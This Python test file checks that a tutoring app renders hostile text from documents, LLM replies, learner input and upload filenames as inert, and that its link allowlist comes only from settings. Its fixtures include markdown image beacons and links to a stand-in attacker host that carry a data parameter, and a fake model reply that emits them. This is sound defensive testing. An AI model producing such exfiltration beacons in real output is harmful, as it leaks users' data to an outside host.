"""Issue 20, the app through AppTest: every string drawn from document, model or learner text
renders inert (items 1 and 3), documents cannot widen the link allowlist (item 4), upload
names (items 11 and 12). The browser half is in test_browser_safety.py.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fake_openai_server import FakeOpenAIServer
from tests.safe_markup import problems, ui_strings
from tests.ui_support import PAGES, app_factory

EVIL_IMG = "![p](https://evil.example/x.png?d=DATA)"
HOSTILE_DOC = f"""---
title: "Clarify {EVIL_IMG} [t](https://evil.example/t)"
url: https://evil.example/clarify
---
# Clarify

## Bias {EVIL_IMG} <img src=https://evil.example/h.png>

SageMaker Clarify measures bias in training data and explains model predictions.
See https://evil.example/bare or www.evil.example or mail ops@evil.example for bias reports.
"""
REWRITE = f"{EVIL_IMG} bias https://evil.example/rewrite www.evil.example"
ANSWER = ("SageMaker Clarify measures bias [1]. More at https://evil.example/stream and "
          "www.evil.example/s and ops@evil.example [1].")
LEARNER = ("And what about it? ![p](https://evil.example/l.png?d=data) https://evil.example/own "
           "www.evil.example me@evil.example")


def _reply(request: dict[str, Any]) -> str:
    system = " ".join(str(m.get("content")) for m in request.get("messages", [])
                      if m.get("role") == "system")
    return REWRITE if "rewrite" in system.lower() else ANSWER


@pytest.fixture
def make_app(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., Any]]:
    with app_factory(monkeypatch) as make:
        yield make


@pytest.fixture
def hostile_home(settings, hash_embedder, tmp_path: Path) -> Path:
    from ingest.job import run_ingest

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "clarify [x](https:evil.example).md").write_text(HOSTILE_DOC, encoding="utf-8")
    run_ingest([corpus], settings, embedder=hash_embedder)
    return settings.home


def assert_inert(at: Any) -> list[str]:
    strings = ui_strings(at)
    assert strings
    bad = {s: problems(s) for s in strings if problems(s)}
    assert not bad, bad
    return strings


def test_every_string_from_documents_models_and_learners_renders_inert(
        make_app, hostile_home: Path, hash_embedder) -> None:
    from ui import state

    server = FakeOpenAIServer(default=_reply).start()
    try:
        at = make_app(hostile_home, hash_embedder, TUTOR_MIN_RELEVANCE="-1",
                      TUTOR_LLM_PROVIDER="openai", TUTOR_LLM_MODEL="fake-model",
                      TUTOR_LLM_BASE_URL=server.url, TUTOR_LLM_API_KEY="sk-not-needed",
                      TUTOR_LLM_MAX_RETRIES="0").run()
        at.chat_input[0].set_value("What does SageMaker Clarify measure?").run()
        assert not at.exception
        at.chat_input[0].set_value(LEARNER).run()  # a follow-up: the model rewrites it
        assert not at.exception
        first = assert_inert(at)
        at.run()  # the same turns again, drawn from the session history
        assert not at.exception
        again = assert_inert(at)
    finally:
        server.stop()
    turns = at.session_state[state.CHAT]
    assert len(turns) == 2 and turns[1].answer is not None
    assert turns[1].answer.query == REWRITE  # the rewrite was made, and is shown inert
    shown = " ".join(first + again)
    assert "evil.example/rewrite" in shown and "evil.example/own" in shown
    assert "evil.example/stream" in shown
    # The document's own URL is not allowed: no button opens it; it is shown as text.
    assert not [b for b in at.get("link_button") if "evil.example" in b.proto.url]
    assert "https://evil.example/clarify" in shown


def test_refused_and_colliding_upload_names(make_app, settings, hash_embedder) -> None:
    body = b"# Glue\n\nAWS Glue crawlers infer table schemas for the Data Catalog.\n"
    other = b"# Kinesis\n\nKinesis Data Streams keeps records for a day by default.\n"
    uploads = [
        ("![p](https:134744072)", body, "text/markdown"),  # refused: no file type
        ("report?.md", body, "text/markdown"),
        ("report*.md", other, "text/markdown"),  # cleans to the same name as the one above
    ]
    at = make_app(settings.home, hash_embedder).run()
    at.switch_page(PAGES["library"]).run()
    at.file_uploader(key="library.upload").set_value(uploads).run()
    at.button(key="library.add").click().run()
    assert not at.exception
    assert_inert(at)
    saved = {p.name: p.read_bytes() for p in settings.uploads_dir.iterdir()
             if not p.name.startswith(".")}
    assert len(saved) == 2 and sorted(saved.values()) == sorted([body, other]), saved
    # Uploading the first one again is an edit of it, not a third file.
    at.file_uploader(key="library.upload").set_value([("report?.md", other, "text/markdown")])
    at.button(key="library.add").click().run()
    assert len([p for p in settings.uploads_dir.iterdir() if not p.name.startswith(".")]) == 2


def test_the_allowlist_comes_only_from_settings() -> None:
    from tutor.config import load_settings
    from tutor.display import allowed_hosts, host_allowed
    from tutor.errors import ConfigError

    hosts = allowed_hosts(["docs.example.org"])
    assert host_allowed("https://docs.example.org/x", hosts)
    assert host_allowed("https://docs.aws.amazon.com/sagemaker/", hosts)
    for url in ("https://evil.example/", "https://sub.docs.example.org/", "https://com/",
                "https://evil.com/"):
        assert not host_allowed(url, hosts), url
    for bad in (["com"], ["*.example.com"], ["https://example.com"], ["example.com/path"],
                ["exa mple.com"], [""], ["-x.example.com"]):
        with pytest.raises(ConfigError):
            load_settings(link_hosts=bad)
    assert load_settings(link_hosts=["Docs.Example.org."]).link_hosts == ["docs.example.org"]


def test_practice_starts_over_a_corrupt_progress_database(make_app, settings, hash_embedder,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Item 8 in the app: the damaged database is moved aside with a visible notice, Practice
    starts, and the answer is recorded in the new database."""
    from ingest.job import run_ingest
    from tests.conftest import NOTES
    from tests.ui_support import alerts, answer_item
    from tutor.config import load_settings
    from tutor.progress import open_progress_store
    from ui import state

    monkeypatch.setenv("TUTOR_VECTOR_STORE", "memory")
    run_ingest([NOTES], load_settings(), embedder=hash_embedder)
    settings.progress_db.parent.mkdir(parents=True, exist_ok=True)
    settings.progress_db.write_bytes(b"this is not a database" * 200)
    at = make_app(settings.home, hash_embedder).run()
    at.switch_page(PAGES["practice"]).run()
    at.number_input(key="practice.count").set_value(1)
    at.button(key="practice.start").click().run()
    assert not at.exception
    assert any("moved" in a and "corrupt" in a for a in alerts(at, "warning")), at.warning
    practice = at.session_state[state.PRACTICE]
    item = practice.current
    answer_item(at, item, f"practice.{practice.session.position}.{item.id}")
    [submit] = [b for b in at.button if b.label == "Submit answer"]
    submit.click().run()
    assert not at.exception
    assert list(settings.progress_db.parent.glob(settings.progress_db.name + ".corrupt-*"))
    assert [a.item_id for a in open_progress_store(load_settings()).attempts()] == [item.id]
    assert_inert(at)
